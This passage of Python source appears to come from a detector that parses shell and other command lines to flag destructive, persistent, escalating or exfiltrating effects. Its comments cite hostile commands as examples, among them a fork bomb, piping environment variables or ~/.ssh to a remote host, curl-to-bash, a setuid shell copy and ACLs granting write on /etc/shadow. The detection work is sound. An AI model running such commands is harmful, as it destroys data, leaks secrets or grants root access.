        """A Windows scheduled task given as its XML to a call that is no file write (an import,
        `Register-ScheduledTask -Xml`): registered, its actions run at its triggers."""
        runs = task_xml_commands(xml)
        if runs:
            what = describe("registers a scheduled task that runs", "", False, runs[0])
            self.out.add(Effect("persist", "", what))
            for body in runs:
                self.shell(body, strict=False, depth=1)

    def file_edit(
        self, path: str, old: str | None, new: str | None, append: bool, text: str
    ) -> None:
        """An editor tool writing `new` (replacing `old`) into `path`."""
        if old and new is not None and self.table.settings.removes(normalize_path(path), old, new):
            self.out.add(
                Effect(
                    "weaken_security",
                    "",
                    describe("removes a security setting from", "", False, text),
                )
            )
            return
        self.file_write(path, new, append, text, 0)

    def argv(self, words: list[str], role: str) -> None:
        """A command given as a list of words (`["rm", "-rf", "/srv/data"]`)."""
        if not words or self.budget <= 0:
            return
        if role == "unknown" and not self.table.knows(program_name(words[0])):
            return
        cmd = Cmd([Word(w) for w in words], text=" ".join(words))
        self._run([cmd], {}, 0, pwsh=False)

    # ------------------------------------------------------------------------ shell
    def shell(self, text: str, *, strict: bool, depth: int, pwsh: bool | None = None) -> None:
        if depth > MAX_DEPTH or self.budget <= 0:
            self.out.partial = self.out.partial or depth > MAX_DEPTH
            return
        if "${{" in text:
            text = _CI_EXPR.sub(_ci_variable, text)
        m = _CMD_FOR.search(text) if "%" in text else None
        if m is not None:
            items = m.group(2).split()
            body = m.group(3).replace("%%" + m.group(1), items[0] if items else "*")
            body = body.replace("%" + m.group(1), items[0] if items else "*")
            self.shell(body, strict=False, depth=depth + 1, pwsh=False)
        is_pwsh = looks_powershell(text) if pwsh is None else pwsh
        if pwsh is None and not is_pwsh and "-" in text[:40]:
            # `remove-item -path $p -recurse`, `GET-ADUSER`: a cmdlet first, in any case
            first = text.split(None, 1)[0] if text.strip() else ""
            is_pwsh = is_cmdlet(self.table, first.lower())
        if not is_pwsh and "{" in text and ("(" in text or "function" in text):
            for m in _FUNCTION_DEF.finditer(text, 0, _GATE_MAX * 32):
                name, body = m.group(1) or m.group(2), m.group(3)
                self.functions[name] = body
                if _SPAWN.search(body) and name in _STARTS.findall(body):
                    # `:(){ :|:& };:` — a function that starts copies of itself: a fork bomb
                    what = describe("exhausts the machine's processes", "", False, m.group(0))
                    self.out.add(Effect("stop_service", "system", what))
        if strict and not _may_name_program(self.table, text):
            return
        script = parse_shell(text, pwsh=is_pwsh, depth=depth)
        if script.truncated:
            self.out.partial = True
        cmds = script.cmds
        if strict and not self._commandlike(cmds, text):
            return
        self.out.texts.append(text)
        self._run(cmds, script.assignments, depth, pwsh=is_pwsh)
        low = text.lower()
        if is_pwsh or "iex" in low or "invoke-expression" in low:
            self._pwsh_remote(text)
        if "scriptblock" in low:  # a PowerShell-only word
            # `& ([scriptblock]::Create('Remove-Item D:\data -Recurse'))`: the text it runs
            for m in _SCRIPTBLOCK.finditer(text, 0, 65536):
                self.shell(m.group(1) or m.group(2), strict=False, depth=depth + 1, pwsh=True)
        if is_pwsh and ("::" in text or "new-object" in low or ".delete(" in low):
            # .NET calls: [System.IO.Directory]::Delete(…), (New-Object Net.Sockets.TCPClient(…))
            sn = code.scan_calls(_PWSH_STATIC.sub(r"\1.", text), "pwsh")
            if sn.calls:
                self._calls(sn, text)

    def _commandlike(self, cmds: list[Cmd], text: str) -> bool:
        """Text under a key that says nothing: a command only if one of its commands starts with
        a known program and reads like one (flags, paths, operators or several words)."""
        t = self.table
        for c in cmds:
            argv = c.argv
            i, _ = strip_wrappers(self.table, argv)
            if i >= len(argv) or argv[i] in _NULL_COMMANDS:
                # `> /etc/shadow`, `: > f`: a redirection alone writes the file it names
                if any(
                    r.op in (">", ">>") and r.target.text.startswith(("/", "~", "$"))
                    for r in c.redirects
                ):
                    return True
                continue
            prog = program_name(argv[i])
            if is_cmdlet(self.table, prog):
                return True  # PowerShell's Verb-Noun: never an everyday word
            if i and _package_from_url(argv[:i], argv[i]):
                return True  # `npx https://gist.github.com/…`
            if not self.table.knows(prog) and not argv[i].startswith(("./", "/")):
                continue
            if any(w.proc_sub for w in c.words[i + 1 :]):
                return True  # `sh <(echo …)`: a process substitution is shell's own syntax
            for r in c.redirects:
                if r.op in ("<<", "<<-", "<<<") or r.target.proc_sub:
                    return True  # so are a here-document or -string (`bash <<'EOF'`), `< <(…)`
                if r.op in (">", ">>") and r.target.text.startswith(("/", "~", "$")):
                    return True  # `echo > /var/log/auth.log`
            rest = argv[i + 1 :]
            if not rest:
                if prog in _ALONE_COMMANDS and len(cmds) == 1 and len(text.split()) == 1:
                    return True
                if c.stage > 0 or len(cmds) == 1:
                    continue
                # `printenv | nc host 9000`: what it feeds is judged by the next command
                if any(n.pipeline == c.pipeline and n.stage > c.stage for n in cmds):
                    return True
                continue
            if not _distinct_program(prog) and any(r.lower() in t.prose_words for r in rest):
                continue  # "Erase the old paragraph about `terraform destroy`": a sentence
            if any(" " in r for r in rest) and (
                prog in t.db_clients or prog in t.shells or prog in t.interpreters
            ):
                return True  # a quoted statement or script (`sqlite3 app.db "DELETE …"`)
            if any(r[:1] in "-/~.$\\" or "/" in r or "\\" in r or r[1:3] == ":\\" for r in rest):
                return True
            if c.redirects or len(cmds) > 1 or c.stage > 0:
                return True
            if any(r.lower() in t.prose_words for r in rest):
                continue  # `aws delete is not supported here` is a sentence
            if _distinct_program(prog) and (
                prog in t.entries
                or prog in t.database_tools["tools"]
                or prog in t.database_tools["runners"]
            ):
                return True
            if f"{prog} {rest[0].lower()}" in self.table.remote_runners:
                return True  # `puppet resource …`, `knife ssh …`: a runner and its subcommand
            if self._names_its_verb(prog, rest):
                return True
        return False

    def _names_its_verb(self, prog: str, rest: list[str]) -> bool:
        """A program followed by a subcommand the table names for it (`service NAME stop`, `sc
        config`), or a cloud CLI by one of the cloud verbs (`hcloud server delete db-1`)."""
        t = self.table
        subs = t.first_subs.get(prog)
        cloud = prog in t.cloud_programs
        if subs is None and not cloud:
            return False
        if not _distinct_program(prog) and (
            len(rest) > 4 or any(_ARG_WORD.fullmatch(r) is None for r in rest)
        ):
            return False  # `service desk: stop by at 3pm` is prose
        for r in rest[:3]:
            low = r.lower()
            if (subs is not None and low in subs) or (cloud and low in t.cloud_verbs):
                return True
        return False

    def _run(self, cmds: list[Cmd], env: dict[str, str], depth: int, pwsh: bool) -> None:
        ran: list[_Ran] = []
        outer = self.cwd
        for c in cmds:
            if self.budget <= 0:
                self.out.partial = True
                break
            self.budget -= 1
            r = self._one(c, c.words, depth, pwsh, recursive_ctx=False, upstream=ran)
            if r is not None:
                if r.words.program == "alias" and not pwsh:
                    self._alias(r.words.argv)
                ran.append(r)
                if r.words.program in _CHDIR and c.stage == 0:
                    self.cwd = _chdir(self.cwd, r.words)
        self.cwd = outer
        self._pipelines(ran, depth)

    def _program_as_run(self, argv: list[str], pwsh: bool) -> list[str]:
        """`r\\m -r\\f /x`: a POSIX shell drops a backslash before an ordinary letter. The lexer
        keeps one inside a word (a Windows path, `C:\\data`); a first word that is a known
        program only without them is that program, and its flags lose theirs too. A first word
        that is a glob (`/bin/r?`) is the program it matches, a destroying one first."""
        first = argv[0]
        if pwsh or not ("\\" in first or "?" in first or "*" in first or "[" in first):
            return argv
        name = program_name(first)
        if _GLOB_CHARS.search(name) and name not in self.table.known_programs:
            if self.globs_left <= 0:  # each costs a pass over the known programs
                return argv
            self.globs_left -= 1
            found = _glob_program(self.table, name)
            return [found, *argv[1:]] if found else argv
        if "\\" not in first or ":" in first:
            return argv
        plain = first.replace("\\", "")
        known = self.table.known_programs
        if program_name(plain) not in known or name in known:
            return argv
        return [plain, *(a.replace("\\", "") if a[:1] == "-" else a for a in argv[1:])]

    def _note_move(self, argv: list[str]) -> None:
        """`mv /var/lib/pg/main /tmp/old`: what a later command does to /tmp/old it does to
        what was moved there."""
        paths = [a for a in argv[1:] if a[:1] != "-"]
        if len(paths) == 2 and len(self.moved) < 8 and paths[1].rstrip("/"):
            self.moved[paths[1].rstrip("/")] = paths[0].rstrip("/")

    def _alias(self, argv: list[str]) -> None:
        """`alias NAME='VALUE'`: NAME runs VALUE's words for the rest of the script."""
        for a in argv[1:9]:
            name, eq, value = a.partition("=")
            if eq and name and value.strip() and len(self.aliases) < 16:
                self.aliases[name] = value.split()[:32]

    def _one(
        self,
        c: Cmd,
        words: list[Word],
        depth: int,
        pwsh: bool,
        *,
        recursive_ctx: bool,
        upstream: list[_Ran],
    ) -> _Ran | None:
        # what substitutions run comes first (they run before the command)
        for word in words:
            for sub in word.subs:
                self.shell(sub, strict=False, depth=depth + 1)
        argv = _substituted(words, self.table.listing_filters)
        i, escalated = strip_wrappers(self.table, argv)
        if escalated:
            shell_like = (
                i >= len(argv)
                or program_name(argv[i]) in self.table.shells
                or argv[i] in ("-i", "-s", "su")
            )
            self.out.add(
                Effect(
                    "escalate",
                    "item",
                    describe(
                        "runs as root" if not shell_like else "opens a root shell",
                        "",
                        False,
                        c.text or " ".join(argv),
                    ),
                )
            )
        given = [a for a in argv[:i] if _ASSIGN.match(a)]
        head = argv[:i]
        argv = argv[i:]
        words = words[i:]
        if argv and head and _package_from_url(head, argv[0]):
            what = describe(
                "runs code fetched from a URL", "", False, c.text or " ".join(head + argv)
            )
            self.out.add(Effect("remote_code", "", what))
        if self.moved:
            argv = [_moved_back(self.moved, a) for a in argv]
        if argv and program_name(argv[0]) in _MOVERS:
            self._note_move(argv)
        if (
            len(words) == 1
            and words[0].quoted
            and " " in argv[0].strip()
            and any(program_name(a) in self.table.wrappers for a in head)
        ):
            # `watch -n 5 "rm -rf /x"`, `sudo "systemctl stop sshd"`: the command line, quoted
            self.shell(argv[0], strict=False, depth=depth + 1)
            return None
        if not argv:
            if not any(r.op in (">", ">>") for r in c.redirects):
                return None
            argv, words = [":"], [Word(":")]  # `> /etc/shadow`: the null command's redirection
        argv = self._program_as_run(argv, pwsh)
        alias = self.aliases.get(argv[0]) if self.aliases else None
        if alias is not None:  # `alias d='rm -rf'` earlier in the script: `d x` runs `rm -rf x`
            argv = [*alias, *argv[1:]]
            words = [*(Word(a) for a in alias), *words[1:]]
        prog = program_name(argv[0])
        body = self.functions.get(argv[0]) if self.functions else None
        if body is not None:  # `f() { rm -rf "$1"; }; f /srv/data`: the body, with its arguments
            self.shell(_positional_args(body, argv), strict=False, depth=depth + 1)
            return None
        self.out.programs.add(prog)
        text = render(argv)
        if (
            self.cwd
            and prog in self.table.serve_here
            and not any(a[:1] in "/~." or a.startswith(("-d", "--directory")) for a in argv[1:])
        ):
            # `cd / && python3 -m http.server`: a file server serves where it was started
            argv = [*argv, self.cwd]
            text = render(argv)
        w = split_words(argv, text)
        w.recursive_ctx = recursive_ctx
        w.cwd = self.cwd

        fed = _fed_roots(self.table, prog, argv, w, c, upstream)
        if fed is not None:
            argv, recursive = fed
            w = split_words(argv, text)
            w.recursive_ctx = recursive
            w.cwd = self.cwd
        if i and prog in self.table.shells:
            # `env A=/srv/x sh -c 'rm -rf $A'`: the inner shell sees the assignments
            self.exported = "; ".join(given)
        j = judge(self.table, w)
        for e in j.effects:
            self.out.add(e)
        if len(words) > 1 and any(word.subs for word in words[1:]):
            self._each_listed(words, w, j)
        if "--pass" in text or "--new-pass" in text:  # (one search over the line, in C)
            self._admin_password(w)
        if not j.effects or all(e.kind == "access_change" for e in j.effects):
            self._flag_settings(argv)  # an access change says nothing of whom it lets in
        self._what_words_set(prog, w, depth)
        if prog in self.table.saved_plans["programs"]:
            self._saved_plan(w)
        elif prog == "git" and w.positional:
            self._rewritten_history(w)
        elif prog in self.table.lifecycles["programs"] and w.positional:
            self._expiry_of_everything(w)
        # commands that run other commands
        if self._unwrap(prog, argv, words, c, depth, pwsh, upstream):
            inner, self.inner = self.inner, None
            if inner is not None:
                # `nsenter -t 1 -- curl … | bash`, `wsl -- rm -rf /x > log`: the command a
                # runner is given as its own words sits where the runner does, with its pipes
                # and redirections
                r = self._one(
                    c,
                    inner,
                    depth + 1,
                    pwsh,
                    recursive_ctx=recursive_ctx,
                    upstream=upstream,
                )
                if r is not None:
                    return r
            ran = Judged()
            ran.kind = "exec"
            if prog == "ssh":  # what is piped in goes to the host: `tar c ~/.ssh | ssh h 'cat >k'`
                self._local_sinks(prog, argv, w, ran, c)
            # a file database opened on a credential store (a browser's `Login Data`) reads it
            # and a client's query that reads a table whole is that table's rows
            source = (
                self._source(w, j, c)
                if prog in _FILE_DBS
                or (
                    (prog in self.table.db_clients or prog == "xargs")
                    and self._dump_of(w) is not None
                )
                else ""
            )
            if source:
                self.out.secret_sources.append(source)
            if prog in self.table.data_dumpers or prog in self.table.db_clients:
                self._dump_published(w, c)  # `sqlite3 app.db .dump > /var/www/html/x`
            return _Ran(w, ran, c, source)
        spoken = (prog in self.table.store_clients or prog in self.table.store_sockets) and (
            self._store_protocol(prog, w, c, upstream)
        )
        if j.kind and not (spoken and not j.effects):  # a bare client does what it is fed
            self.out.kinds.add(j.kind)
        self.out.urls.extend(j.urls)
        if j.request is not None and len(self.out.requests) < 4:
            self.out.requests.append(j.request)
        for body in j.nested:
            self.shell(body, strict=False, depth=depth + 1)
        for script in j.scripts[:2]:  # a script console's code runs on that server
            self.snippet(script[:65536], "code")
        if prog in self.table.db_clients or (
            c.stage and names_pair(argv, self.table.db_shells) is not None
        ):
            statements = _piped_text(c, upstream, adjacent=True)
            if statements is None and c.stage:
                statements = self._printed_statements(c, upstream)
            self._db_client(prog, argv, c, statements)
        else:
            self._sql_options(argv)
        self._redirects(c, w, j, depth, _piped_text(c, upstream))
        source = self._source(w, j, c)
        if source:
            self.out.secret_sources.append(source)
        self.out.unit_amounts.extend(j.unit_amounts)
        self.out.amounts.extend(j.amounts)
        for src in j.code_sources:
            if self.dest_class(src) in ("unknown", "drop"):
                what = describe("installs code from an outside index", "", False, text)
                self.out.add(Effect("remote_code", "", what))
                break
        for f in j.downloads:
            name = normalize_path(f)
            self.downloaded.add(name)
            self.downloaded.add(_file_name(name))
        if prog == "find":
            self._find(argv, c, depth, pwsh)
        installed = _installed_command(prog, argv)
        if installed:
            self.shell(process_line(installed), strict=False, depth=depth + 1)
        if prog in ("install", "setfacl"):
            self._permissions(prog, argv, text)
        self._local_sinks(prog, argv, w, j, c)
        if "=" in text and any(k in text for k in self.table.retention_needles):
            self._retention_args(argv)  # (`retention.ms=1`: the keys' names gate it)
        if prog in self.table.data_dumpers:
            self._dump_published(w, c)
        self._runs_download(prog, argv, text)
        if self.scripts:
            self._runs_written(prog, argv, depth)
        return _Ran(w, j, c, source)

    def _permissions(self, prog: str, argv: list[str], text: str) -> None:
        """Rights a copy or an ACL gives: `install -m 4755 /bin/sh /usr/local/bin/x` is a copy
        then `chmod 4755` of it (a setuid shell); `setfacl -m u:bob:rwx /etc/shadow` lets one
        user write a security file (root by another door)."""
        if prog == "install":
            mode = _value_after(argv, ("-m", "--mode"))
            pos = [a for k, a in enumerate(argv[1:], 1) if a[:1] != "-" and argv[k - 1] not in
                   ("-m", "--mode", "-o", "-g", "--owner", "--group", "-t")]  # fmt: skip
            if mode and len(pos) >= 2:
                for e in judge(
                    self.table, split_words(["chmod", _octal(mode), pos[-1]], text)
                ).effects:
                    self.out.add(e)
            return
        grants = any(_USER_WRITE_ACL.match(a) for a in argv[1:16])
        if grants and any(self.table.is_security_config(a) for a in argv[1:16] if a[:1] == "/"):
            what = describe("lets a user write a security file", "", False, text)
            self.out.add(Effect("escalate", "all", what))

    def _what_words_set(self, prog: str, w: Words, depth: int) -> None:
        """What a command's words set for later: settings (`setting_words`), the folder Git's
        hooks come from, a command run before every prompt."""
        spec = self.table.setting_words.get(prog)
        if spec is not None and w.positional and w.low[w.positional[0]] in spec[0]:
            subs, key_at, value_at = spec
            if key_at is None:  # `kubectl label ns prod k=v`: each `k=v` word
                for i in w.positional[1:16]:
                    key, eq, value = w.argv[1 + i].partition("=")
                    if eq and key:
                        self.setting(key, value)
            elif len(w.positional) > key_at:  # `defaults write DOMAIN KEY -int 0`
                key = w.argv[1 + w.positional[key_at]]
                self.setting(key, w.argv[1 + w.positional[value_at]])
        if prog == "git" and "-c" in w.argv[1:4]:
            self._git_run_options(w.argv, depth)
        options = self.table.raw.get("command_options") or {}
        if prog in options:
            self._option_commands(options[prog], w.argv, depth)
        if prog == "git" and len(w.positional) >= 3 and w.low[w.positional[0]] == "config":
            key = w.low[w.positional[1]]
            value = w.argv[1 + w.positional[2]]
            if key == "core.hookspath":  # Git's hooks come from that folder from now on
                self.hook_dirs.append(normalize_path(value))
            elif any(fnmatch.fnmatchcase(key, g) for g in self.table.git_run_settings):
                # `git config core.fsmonitor "…"`: run by Git on every `status` from now on
                what = describe("sets a command Git runs later", "", False, w.text)
                self.out.add(Effect("persist", "", what))
                self.shell(value.lstrip("!"), strict=False, depth=depth + 1)
        if prog in _DECLARERS:
            for a in w.argv[1:9]:  # `export PROMPT_COMMAND='…'`: run before every prompt
                name, eq, value = a.partition("=")
                if eq and name in _RUN_VARIABLES:
                    self.shell(value, strict=False, depth=depth + 1)
                elif eq and name in _PRELOAD_VARIABLES and _hidden_or_temp(self.table, value):
                    # `export LD_PRELOAD=/dev/shm/.x.so`: a library from a scratch or hidden
                    # place loaded into every program started from here on
                    what = describe(
                        "preloads a library from a temporary or hidden place", "", False, a
                    )
                    self.out.add(Effect("escalate", "all", what))

    def _git_run_options(self, argv: list[str], depth: int) -> None:
        """`git -c alias.x='!cmd' x`, `git -c core.pager='cmd' log`: a setting Git runs as a
        command (`git_run_settings`), given for this one run: the command is judged as run (a
        pager that reads is a read)."""
        k = 1
        while k + 1 < len(argv) and k < 16 and argv[k].startswith("-"):
            if argv[k] == "-c":
                key, eq, value = argv[k + 1].partition("=")
                key = key.lower()
                if eq and any(fnmatch.fnmatchcase(key, g) for g in self.table.git_run_settings):
                    self.shell(value.lstrip("!"), strict=False, depth=depth + 1)
            k += 2 if argv[k] in ("-c", "-C") else 1

    def _option_commands(self, spec: Mapping[str, str], argv: list[str], depth: int) -> None:
        """An option whose value is a command line the program runs (`command_options`: `tar
        --checkpoint-action=exec='cmd'`, `--to-command='cmd'`, `-I 'cmd'`): judged as run."""
        for k in range(1, min(len(argv), 64)):
            a = argv[k]
            name, eq, value = a.partition("=") if a.startswith("--") else (a, "", "")
            prefix = spec.get(name)
            if prefix is None:
                continue
            if not eq:
                if k + 1 >= len(argv):
                    continue
                value = argv[k + 1]
            if not value.startswith(prefix):
                continue  # `--checkpoint-action=dot`: no command
            value = value[len(prefix) :]
            if value.strip():
                self.shell(value, strict=False, depth=depth + 1)

    def _flag_settings(self, argv: list[str]) -> None:
        """Long flags with a value are settings given as fields (`gh repo edit --visibility
        public`, `--acl public-read`): read by the same `settings` entries as a field."""
        settings = self.table.settings
        low = [a.lower() for a in argv[:64]]
        if "--effect=deny" in low or any(
            a.lstrip("-") in ("effect", "action") and b in ("deny", "block")
            for a, b in zip(low, low[1:], strict=False)
        ):
            return  # a statement or rule that denies: its principals are shut out, not let in
        # PowerShell's parameters are single-dash words (`-RemoteAddress Any`)
        dashes = 1 if is_cmdlet(self.table, low[0]) else 2
        for k in range(1, min(len(argv), 64)):
            flag = argv[k]
            if low[k] in _SET_OPTIONS and k + 1 < len(argv) and "=" in argv[k + 1]:
                # `kcadm.sh update realms/x -s bruteForceProtected=false`, `--set a.b=c`
                name, _, value = argv[k + 1].partition("=")
            elif len(flag) < 2 + dashes or flag[:dashes] != "-" * dashes or flag[dashes] == "-":
                continue
            else:
                name, eq, value = flag[dashes:].partition("=")
                if not eq and dashes == 2 and name.lower().startswith("no-") and len(name) > 3:
                    name, value = name[3:], "false"  # `--no-deletion-protection`: that one off
                elif not eq:
                    if k + 1 >= len(argv) or argv[k + 1].startswith("-"):
                        continue
                    value = argv[k + 1]
            if value[:1] == "{" and self._policy_document(value):
                return  # a resource policy given inline: `--policy-text '{"Principal": "*"}'`
            if value.lower() in ("$true", "$false"):
                value = value[1:]  # PowerShell's booleans (`-AuditDisabled $true`)
            if settings.field_bad is not None and value.lower() not in settings.field_bad:
                continue  # no entry for fields counts this value as weakening (cheap test first)
            if settings.field_weakens(name.replace("-", "_"), value):
                what = describe("sets a weakening value", "", False, f"{name}={value}")
                self.out.add(Effect("weaken_security", "", what))
                return

    def _policy_document(self, value: str) -> bool:
        """A JSON document given as a flag's value, its fields read as settings (a policy's
        `"Principal": "*"` lets anyone in); True when one weakens security."""
        try:
            doc = json.loads(value[:65536])
        except ValueError:
            return False
        stack: list[tuple[Any, int]] = [(doc, 0)]
        seen = 0
        while stack and seen < 256:
            node, depth = stack.pop()
            seen += 1
            items = (
                node.items()
                if isinstance(node, dict)
                else enumerate(node)
                if isinstance(node, list)
                else ()
            )
            for key, val in items:
                if isinstance(val, dict | list):
                    if depth < 8:
                        stack.append((val, depth + 1))
                elif isinstance(key, str) and isinstance(val, str | bool | int):
                    text = str(val).lower() if isinstance(val, bool) else str(val)
                    if self.setting(key, text):
                        return True
        return False

    # ------------------------------------------------------------------------ unwrapping
    def _unwrap(
        self,
        prog: str,
        argv: list[str],
        words: list[Word],
        c: Cmd,
        depth: int,
        pwsh: bool,
        upstream: list[_Ran],
    ) -> bool:
        """Commands whose job is running another command: run that one instead."""
        t = self.table
        if prog in t.shells:
            if _noexec(argv):
                self.out.kinds.add("read")  # `bash -n deploy.sh`: its syntax checked, nothing run
                return True
            code_arg = _flag_value(argv, "c")
            exported, self.exported = self.exported, ""
            if code_arg is not None:
                code_arg = _positional_args(code_arg, _script_args(argv))
                if exported:
                    code_arg = f"{exported}; {code_arg}"
                self.shell(code_arg, strict=False, depth=depth + 1)
                return True
            stdin = c.heredoc or next((r.target.text for r in c.redirects if r.op == "<<<"), "")
            if stdin:  # `bash <<'EOF' … EOF`, `bash <<< 'cmd'`
                self.shell(stdin, strict=False, depth=depth + 1)
                return True
            if self._fed_scripts(words, c, depth):
                return True  # `bash < <(echo '…')`, `sh <(printf …)`
            files = [a for a in argv[1:] if not a.startswith("-")]
            piped = _piped_text(c, upstream, adjacent=True) if not files else None
            if piped:  # `cat <<'EOF' | sh`, `printf 'rm -rf %s' /x | bash`: the script
                self.shell(piped, strict=False, depth=depth + 1)
                return True
            if files:
                self.out.kinds.add("exec")
                # `bash <(curl …)`: judged with the pipelines
                return any(words[k].proc_sub for k in range(1, len(words)))
            return False
        if prog in t.stdin_scripts:
            # `at midnight <<< 'rm -rf /x'`, `echo 'cmd' | at now`: the script runs later
            script = _fed_text(c, upstream)
            if script:
                self.out.kinds.add("write")
                self.shell(script, strict=False, depth=depth + 1)
                return True
            return False
        if prog == "vault" and [a.lower() for a in argv[1:3]] == ["policy", "write"]:
            self._vault_policy(argv, c, upstream)
            return False
        if prog in ("ldapmodify", "ldapadd"):  # the LDIF it reads on its input
            self.ldif(_fed_text(c, upstream) or "")
            return False
        if prog in ("eval",) and len(argv) > 1:
            self.shell(" ".join(argv[1:]), strict=False, depth=depth + 1)
            return True
        if prog in ("source", ".") and len(argv) > 1:
            self.out.kinds.add("exec")
            return self._fed_scripts(words, c, depth)  # `source <(echo '…')`
        if prog == "xargs":
            self._xargs(argv, c, depth, pwsh, upstream)
            return True
        if prog == "parallel":
            self._parallel(argv, c, depth, pwsh, upstream)
            return True
        if prog in ("start-process", "saps") and self._start_process(argv, depth):
            return True
        interp = t.interpreters.get(prog)
        if interp is not None and self._interpreter(prog, interp, argv, c, depth, upstream):
            return True
        runner = _runner(t, argv)
        if runner is not None:
            return self._remote(runner, argv, words, c, depth, pwsh)
        return False

    def _interpreter(
        self,
        prog: str,
        spec: Mapping[str, Any],
        argv: list[str],
        c: Cmd,
        depth: int,
        upstream: list[_Ran],
    ) -> bool:
        lang = str(spec.get("lang") or "")
        flags = [str(f).lower() for f in (spec.get("flags") or [])]
        encoded = [str(f).lower() for f in (spec.get("encoded") or [])]
        body: str | None = None
        low = [a.lower() for a in argv]
        modules = [str(f).lower() for f in (spec.get("modules") or [])]
        for k in range(1, len(argv)):
            a = low[k]
            if a in modules and k + 1 < len(argv):  # `python -m pip install …`: pip runs
                self.shell(render(argv[k + 1 :]), strict=False, depth=depth + 1)
                return True
            if a in encoded and k + 1 < len(argv):
                decoded = code.decode_base64(argv[k + 1])
                self.out.add(
                    Effect(
                        "remote_code",
                        "",
                        describe("runs an encoded command", "", False, c.text or " ".join(argv)),
                    )
                )
                if decoded:
                    self.shell(decoded, strict=False, depth=depth + 1, pwsh=True)
                return True
            if a in flags and k + 1 < len(argv):
                nxt = k + 1
                while lang == "sql" and nxt < len(argv) - 1 and argv[nxt].startswith("-"):
                    nxt += 1  # `bq query --nouse_legacy_sql 'DELETE …'`: options come first
                body = _rejoined(argv[nxt:]) if lang in ("pwsh", "cmd") else argv[nxt]
                if lang == "sql":  # `psql -c '\\o | sh' -c "SELECT …"`: each, in turn
                    more = [argv[i + 1] for i in range(nxt + 1, len(argv) - 1) if low[i] in flags]
                    body = "\n".join([body, *more])
                if lang == "argv":  # `bundle exec rails r '…'`: the rest is a command
                    body = render(argv[k + 1 :])
                elif lang in ("applescript", "debugger"):  # `osascript -e '…' -e '…'`: its lines
                    body = "\n".join(
                        argv[i + 1] for i in range(k, len(argv) - 1) if low[i] in flags
                    )
                break
            eq = a.split("=", 1)[0]
            if "=" in a and eq in flags and eq.startswith("--"):
                body = argv[k].split("=", 1)[1]  # `--execute="App\Models\X::truncate();"`
                break
            if (
                a.startswith("-")
                and len(a) > 2
                and a[1] != "-"
                and flags
                and a[-1:] == flags[0][-1:]
                and lang == "python"
            ):
                body = argv[k + 1] if k + 1 < len(argv) else None
                break
        if body is None and lang == "sql":
            pos = int(spec.get("positional_sql") or 0)
            positional = [a for a in argv[1:] if not a.startswith("-")]
            if pos and len(positional) >= pos:
                body = " ".join(positional[pos - 1 :])
        if body is None and lang == "redis":
            return False  # its words are judged by the table (`redis-cli FLUSHALL`)
        if body is None and lang == "pwsh":
            rest = [a for a in argv[1:] if not a.startswith("-")]
            if rest and not rest[0].lower().endswith(".ps1"):
                body = " ".join(rest)
        if body is None and lang in ("python", "js", "sql", "code", "pwsh", "tcl", "elisp"):
            body = _fed_text(c, upstream)  # a here-document or -string, or what is piped in
        if body is None:
            return False
        if spec.get("parenless"):
            body = _with_parentheses(body)
        # a database client's query reads unless what it holds says more (`mongosh --eval`)
        if lang not in ("cmd", "pwsh", "argv", "applescript", "debugger"):  # these say
            self.out.kinds.add("read" if lang == "sql" or prog in self.table.db_clients else "exec")
        self._code_body(
            body,
            lang,
            depth,
            scratch=prog in _FILE_DBS and _scratch_db(self.table, argv),
            client=prog,
        )
        return True

    def _debugger(self, body: str, client: str) -> None:
        """A debugger's commands (`gdb -ex …`): its shell escapes and `call system("…")` run
        shell lines; commands that only inspect (`bt`, `info`: `shell_escapes.inspect`) read,
        any other runs the program."""
        rest = self._shell_escapes(body, client)
        for m in _DEBUGGER_SYSTEM.finditer(rest, 0, 65536):
            self.shell(_unescape_dq(m.group(1)), strict=False, depth=1)
        reads = self.table.debugger_reads
        lines = [x.strip().lower() for x in rest.splitlines()[:64] if x.strip()]
        inspects = all(
            x in reads or x.split(" ", 1)[0] in reads or x.rsplit(" ", 1)[0] in reads for x in lines
        )
        self.out.kinds.add("read" if rest == body and inspects else "exec")

    def _code_body(
        self, body: str, lang: str, depth: int, scratch: bool = False, client: str = ""
    ) -> None:
        if lang in ("ruby", "php", "code") and ("`" in body or "x(" in body or "qx{" in body):
            # Ruby's, Perl's and PHP's backticks, `%x(…)` and `qx(…)` run a shell command
            for quoted in code.shell_quoted(body):
                self.shell(quoted, strict=False, depth=depth + 1)
        if lang == "ruby":  # methods called without parentheses: `Customer.destroy_all`
            body = _RUBY_BARE_CALL.sub(r"\1()", body)
            lang = "code"
        elif lang == "php":  # `DB::table("x")->delete()`: the same call chain, dotted
            # (a namespace's backslash too; a string's escaped quote stays one)
            body = _PHP_NAMESPACE.sub(".", body.replace("->", ".").replace("::", "."))
            lang = "code"
        if lang == "applescript":  # `do shell script "rm -rf ~/x"`: the shell runs it
            for m in _APPLESCRIPT_SHELL.finditer(body, 0, 65536):
                self.shell(_unescape_dq(m.group(1)), strict=False, depth=depth + 1)
            self._applescript(body)
            lang = "code"
        if lang == "tcl":
            # Tcl's and expect's `exec cmd …` and `spawn cmd …` start a program with its words
            # (braces quote, as the shell's single quotes do): `spawn sh -c {rm -rf /x}`
            for m in _TCL_RUNS.finditer(body, 0, 65536):
                line = _TCL_BRACES.sub(_single_quoted, m.group(1))
                self.shell(line, strict=False, depth=depth + 1)
            for m in _TCL_FILE_DELETE.finditer(body, 0, 65536):
                # `file delete -force /x`: a directory with what it holds (`rm -r -f`)
                words = _TCL_BRACES.sub(_single_quoted, m.group(1)).split()
                paths = [x for x in words if x not in ("-force", "--")]
                flags = "-r -f " if "-force" in words else ""
                self.shell(f"rm {flags}{' '.join(paths)}", strict=False, depth=depth + 1)
            return
        if lang == "elisp":
            for m in _ELISP_CALL.finditer(body, 0, 65536):
                self.shell(_elisp_line(m), strict=False, depth=depth + 1)
            return
        if lang == "argv":
            self.shell(body, strict=False, depth=depth + 1)
        elif lang == "sql":
            self.sql(body, strict=False, temp=scratch, client=client)
        elif lang == "debugger":
            self._debugger(body, client)
        elif lang == "pwsh":
            self.shell(body, strict=False, depth=depth + 1, pwsh=True)
        elif lang == "cmd":
            self.shell(body, strict=False, depth=depth + 1, pwsh=False)
        elif lang == "python":
            if not self.snippet(body, "code", python_only=True):
                self.snippet(body, "code")
        elif lang == "js":
            self.snippet(body, "code", js_only=True)
        else:
            self.snippet(body, "code")

    def _remote(
        self,
        runner: str,
        argv: list[str],
        words: list[Word],
        c: Cmd,
        depth: int,
        pwsh: bool,
    ) -> bool:
        """Run the command a remote runner carries (True), or say it carries none (False: the
        runner's own command is judged, `ansible web -m ping` as the read it is)."""
